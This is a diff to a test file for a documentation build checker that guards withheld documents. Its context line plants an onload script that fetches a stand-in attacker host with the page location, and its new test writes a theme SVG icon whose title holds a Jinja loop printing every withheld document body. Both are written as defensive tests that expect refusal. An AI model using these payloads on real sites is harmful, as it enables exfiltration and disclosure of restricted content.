@@ -223,3 +223,25 @@ def test_a_unit_page_whose_body_tag_runs_a_script_is_refused(platform):
     page.write_text(text.replace("</body>", '<body onload="fetch(\'//evil.example/\'+location)"></body>', 1), encoding="utf-8")
     seal_unit_manifest(platform / "build/units/jyj", "jyj")
     refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ")
+
+
+def test_a_theme_icon_holding_template_marks_is_refused(tmp_path):
+    """Material includes `theme.icon.logo: agency/logo` from the theme folder's .icons/ (a hidden folder MkDocs does not
+    copy, so no check read it) into every page as a Jinja template: an SVG whose <title> held a loop over the plugin's
+    documents printed a 不予公开 body on every page, exit 0. Now E406 on the icon's line; a plain SVG logo builds."""
+    from .leakkit import leaks
+    for case, svg in (("hostile", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n<path d="M0 0h24v24H0z"/>\n'
+                                  '<title>{% for d in config.plugins["disclosure"].site.documents %}{{ d.body }}{% endfor %}'
+                                  '</title></svg>\n'),
+                      ("plain", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>\n')):
+        root = _withheld_with_theme(tmp_path / case, icon={"logo": "agency/logo"})
+        (root / "overrides/.icons/agency").mkdir(parents=True)
+        (root / "overrides/.icons/agency/logo.svg").write_text(svg, encoding="utf-8")
+        checked, built = check(root), build(root)
+        if case == "plain":
+            assert built.returncode == 0 and not [line for line in checked.coded_lines() if " E406 " in line], built.output
+            continue
+        for run in (checked, built):
+            assert run.returncode != 0 and any(report.startswith("overrides/.icons/agency/logo.svg:3: E406 ")
+                                               for report in run.coded_lines()), run.output
+        assert not (root / "site").exists() or not leaks(root / "site", [WITHHELD_BODY])
